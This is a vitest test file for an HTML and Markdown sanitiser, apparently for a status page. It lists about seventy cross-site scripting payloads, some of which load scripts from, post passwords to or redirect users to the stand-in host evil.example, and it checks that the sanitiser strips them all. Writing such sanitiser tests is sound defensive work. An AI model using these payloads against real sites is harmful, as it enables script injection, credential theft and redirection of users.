import { describe, expect, test } from 'vitest';
import { renderSafeHtml } from '../../src/render/markdown.ts';

const formats = ['markdown', 'html'] as const;

/** The only tags that may come out, written exactly so. */
const allowedTag =
  /^<(\/?(p|strong|em|b|i|code|pre|ul|ol|li|blockquote|del|h[345]|small|sub|sup|table|thead|tbody|tr|th|td)|\/a|br \/|hr \/|ol start="\d+"|th scope="(col|row)"|a href="[^"<>]*" rel="noopener nofollow")>$/;

/** Everything between angle brackets that is none of ours. */
const strangers = (html: string): string[] =>
  (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !allowedTag.test(tag));

const entities: Record<string, string> = { '&amp;': '&', '&lt;': '<', '&gt;': '>', '&quot;': '"' };

/** Where a click would lead from our page. */
const targets = (html: string): URL[] =>
  [...html.matchAll(/<a href="([^"]*)"/g)].map(([, href = '']) => {
    const plain = href.replace(/&(amp|lt|gt|quot);/g, (entity) => entities[entity] ?? entity);
    return new URL(plain, 'https://status.example.com/incidents/x');
  });

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script/src=data:,alert(1)>',
  '<style>@import "https://evil.example"</style>',
  '<link rel=stylesheet href=https://evil.example>',
  '<form action=https://evil.example><input name=password><button>Sign in</button></form>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<img src=x onerror=alert(1)>',
  '<img src="x:x" onerror="alert(1)">',
  '<p onclick="alert(1)" style="position:fixed">x</p>',
  '<b onmouseover=alert(1)>x</b>',
  '<a href="https://ok.example" onclick="alert(1)" target="_blank" style="color:red">x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p id="main" name="cookie" class="card">x</p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '</p></div></article><h1>Everything is working</h1>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:x)',
  '[x](//evil.example)',
  '<javascript:alert(1)>',
  '![x](https://evil.example/pixel.gif)',
  '![x](javascript:alert(1))',
  '![" onerror="alert(1)](x)',
  '[x](https://ok.example "\\" onclick=\\"alert(1)")',
  '```js"><img src=x onerror=alert(1)>\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '> <iframe src=x>',
  '- <svg onload=alert(1)>',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '- [ ] <input onfocus=alert(1) autofocus>',
  '<x/onclick=alert(1)>x',
  '<<script>alert(1)//<</script>',
  '<a href="https://ok.example/?a=&quot;onclick=alert(1)">x</a>',
];

describe.each(formats)('%s: nothing that acts comes through', (format) => {
  test.each(attacks)('%j', (attack) => {
    for (const text of [attack, `Before ${attack} after`, `**${attack}**`]) {
      const html = renderSafeHtml(text, format);
      expect(strangers(html)).toEqual([]);
      for (const { protocol } of targets(html)) expect(['https:', 'mailto:']).toContain(protocol);
    }
  });

  test('nor a link whose host is not spelled out', () => {
    for (const href of [
      '//evil.example',
      '\\\\evil.example',
      '/\\evil.example',
      '\\/evil.example',
      '/\t/evil.example',
    ]) {
      for (const text of [`[x](${href})`, `[x](<${href}>)`, `<a href="${href}">x</a>`]) {
        const hosts = targets(renderSafeHtml(text, format)).map(({ host }) => host);
        expect(hosts.filter((host) => host.includes('evil.example'))).toEqual([]);
      }
    }
  });

  test('nor what is nested a thousand times', () => {
    expect(strangers(renderSafeHtml('<b>'.repeat(1_000), format))).toEqual([]);
    expect(strangers(renderSafeHtml(`${'> '.repeat(200)}<script>x</script>`, format))).toEqual([]);
  });
});

describe('Markdown', () => {
  test.each([
    ['One\ntwo', '<p>One<br />two</p>'],
    ['One\n\ntwo', '<p>One</p>\n<p>two</p>'],
    ['**a** *b* ~~c~~ `d`', '<p><strong>a</strong> <em>b</em> <del>c</del> <code>d</code></p>'],
    ['# a', '<h3>a</h3>'],
    ['## a', '<h3>a</h3>'],
    ['### a', '<h3>a</h3>'],
    ['#### a', '<h3>a</h3>'],
    ['#### a\n\n## b\n\n#### c\n\n### d', '<h3>a</h3>\n<h3>b</h3>\n<h4>c</h4>\n<h4>d</h4>'],
    ['- a\n- b', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>'],
    ['3. a', '<ol start="3">\n<li>a</li>\n</ol>'],
    ['> a', '<blockquote>\n<p>a</p>\n</blockquote>'],
    ['---', '<hr />'],
    ['    a < b', '<pre><code>a &lt; b\n</code></pre>'],
    [
      '[a](https://help.example/b?c=1&d=2)',
      '<p><a href="https://help.example/b?c=1&amp;d=2" rel="noopener nofollow">a</a></p>',
    ],
    [
      '[a](mailto:help@example.com)',
      '<p><a href="mailto:help@example.com" rel="noopener nofollow">a</a></p>',
    ],
    [
      'https://help.example',
      '<p><a href="https://help.example" rel="noopener nofollow">https://help.example</a></p>',
    ],
    ['<b>raw</b> & <i>shown</i>', '<p>&lt;b&gt;raw&lt;/b&gt; &amp; &lt;i&gt;shown&lt;/i&gt;</p>'],
    ['a < b > c & "d"', '<p>a &lt; b &gt; c &amp; "d"</p>'],
    ['[a](javascript:alert(1))', '<p>a</p>'],
    ['', ''],
  ])('%j becomes %j', (source, html) => {
    expect(renderSafeHtml(source, 'markdown')).toBe(html);
  });
});

describe('imported HTML', () => {
  test.each([
    ['One\ntwo\r\nthree', '<p>One<br />two<br />three</p>'],
    ['<b>a</b> <strong>b</strong> <small>c</small>', '<p><b>a</b> <strong>b</strong> <small>c</small></p>'],
    ['<h1>a</h1><h2>b</h2><h6>c</h6>', '<h3>a</h3>\n<h4>b</h4>\n<h5>c</h5>'],
    [
      '<a href="https://ok.example" target="_blank">a</a>',
      '<p><a href="https://ok.example" rel="noopener nofollow">a</a></p>',
    ],
    ['<a href="/relative">a</a>', '<p>a</p>'],
    ['<var data-var="date">Nov 20</var>', '<p>Nov 20</p>'],
    ['*not* Markdown', '<p>*not* Markdown</p>'],
    ['5 < 6 &amp; 7', '<p>5 &lt; 6 &amp; 7</p>'],
    ['a<div>b</div>c', '<p>a</p>\n<p>b</p>\n<p>c</p>'],
    ['<p>a<script>alert(1)</script>b</p>', '<p>ab</p>'],
  ])('%j becomes %j', (source, html) => {
    expect(renderSafeHtml(source, 'html')).toBe(html);
  });
});

test('what was rendered stays safe when somebody sanitises it again', () => {
  for (const attack of attacks) {
    for (const format of formats)
      expect(strangers(renderSafeHtml(renderSafeHtml(attack, format), 'html'))).toEqual([]);
  }
});

describe('a text keeps its meaning', () => {
  const markdown = (source: string) => renderSafeHtml(source, 'markdown');
  const link = (href: string, words: string) => `<a href="${href}" rel="noopener nofollow">${words}</a>`;

  test('a table does not become a run of words', () => {
    const cells = '<tr>\n<td>EU</td>\n<td>down</td>\n</tr>';
    const head = '<tr>\n<th scope="col">Region</th>\n<th scope="col">State</th>\n</tr>';
    const table = `<table>\n<thead>\n${head}\n</thead>\n<tbody>\n${cells}\n</tbody>\n</table>`;
    expect(markdown('| Region | State |\n|---|--:|\n| EU | down |')).toBe(table);
    expect(
      renderSafeHtml(
        '<table><tr><th>Region</th><th>State</th></tr><tr><td>EU</td><td>down</td></tr></table>',
        'html',
      ),
    ).toBe(table);
  });

  test('[x] does not look like [ ]', () => {
    expect(markdown('- [x] done\n- [ ] open')).toBe('<ul>\n<li>☑ done</li>\n<li>☐ open</li>\n</ul>');
  });

  test('a picture’s text does not vanish: it is linked to the picture, and nothing is loaded', () => {
    const picture = 'https://pictures.example/curve.png';
    expect(markdown(`![Errors fell at 14:05](${picture})`)).toBe(
      `<p>${link(picture, 'Errors fell at 14:05')}</p>`,
    );
    expect(markdown(`See ![](${picture})`)).toBe(`<p>See ${link(picture, ` ${picture}`)}</p>`);
    expect(markdown(`[![Errors](${picture})](https://help.example)`)).toBe(
      `<p>${link('https://help.example', 'Errors')}</p>`,
    );
    expect(renderSafeHtml(`Curve: <img src="${picture}" alt="Errors fell"> End.`, 'html')).toBe(
      `<p>Curve: ${link(picture, 'Errors fell')} End.</p>`,
    );
    expect(markdown('![words](javascript:alert(1))')).toBe('<p>words</p>');
  });

  test('a relative link means the same on every page', () => {
    expect(markdown('[a](help.html) [b](/incidents/x?y#z) [c](#u) [d](../e)')).toBe(
      `<p>${link('/help.html', 'a')} ${link('/incidents/x?y#z', 'b')} ${link('#u', 'c')} ${link('/e', 'd')}</p>`,
    );
    expect(markdown('[a](www.help.example/x) [b](me@help.example) [c](tel:+49301234)')).toBe(
      `<p>${link('https://www.help.example/x', 'a')} ${link('mailto:me@help.example', 'b')} ${link('tel:+49301234', 'c')}</p>`,
    );
  });

  test('a relative link of an imported text leads to the page it comes from, and nowhere when that is unknown', () => {
    const source = '<a href="/incidents/abc">a</a> <a href="help.html">b</a> <a href="//evil.example">c</a>';
    const page = 'https://status.old.example';
    expect(renderSafeHtml(source, 'html', page)).toBe(
      `<p>${link(`${page}/incidents/abc`, 'a')} ${link(`${page}/help.html`, 'b')} c</p>`,
    );
    for (const base of [undefined, 'not an address', 'javascript:alert(1)'])
      expect(renderSafeHtml(source, 'html', base)).toBe('<p>a b c</p>');
  });

  test.each([
    ['[Note]: https://help.example', '<p>[Note]: https://help.example</p>'],
    ['[a][b]\n\n[b]: https://help.example', `<p>${link('https://help.example', 'a')}</p>`],
  ])('Markdown: %j is no lost line', (source, html) => {
    expect(markdown(source)).toBe(html);
  });

  test.each([
    [
      '<p>Hit:</p>\n<ul>\n<li>Graz</li>\n</ul>\nMore.',
      '<p>Hit:</p>\n<ul>\n<li>Graz</li>\n</ul>\n<p>More.</p>',
    ],
    [
      '# Report\n\n**Summary:** a\n\n1. b',
      '<h3>Report</h3>\n<p><strong>Summary:</strong> a</p>\n<ol>\n<li>b</li>\n</ol>',
    ],
    ['<id>.portal.example and List<String>', '<p>&lt;id&gt;.portal.example and List&lt;String&gt;</p>'],
    [
      '<https://help.example> or <me@help.example>',
      '<p>&lt;https://help.example&gt; or &lt;me@help.example&gt;</p>',
    ],
    ['a<svg/onload=alert(1)>b', '<p>ab</p>'],
    ['10<sup>6</sup>, <s>no</s>, <q>yes</q>', '<p>10<sup>6</sup>, <del>no</del>, "yes"</p>'],
    ['<dl><dt>a</dt><dd>b</dd></dl>', '<p><strong>a</strong></p>\n<p>b</p>'],
    ['One\n\n\ntwo', '<p>One</p>\n<p>two</p>'],
    ['<b>a<p>b</p></b>', '<p><b>a</b></p>\n<p><b>b</b></p>'],
    ['<li>a</li><li>b</li>', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>'],
    ['<ul>x<li>a</li>y</ul>', '<ul>\n<li>x</li>\n<li>ay</li>\n</ul>'],
    [
      '<a href="https://a.example">x <a href="https://b.example">y</a></a>',
      `<p>${link('https://a.example', 'x ')}${link('https://b.example', 'y')}</p>`,
    ],
    ['<h2></h2><p> </p><ul></ul>', ''],
  ])('an imported %j becomes %j', (source, html) => {
    expect(renderSafeHtml(source, 'html')).toBe(html);
  });
});
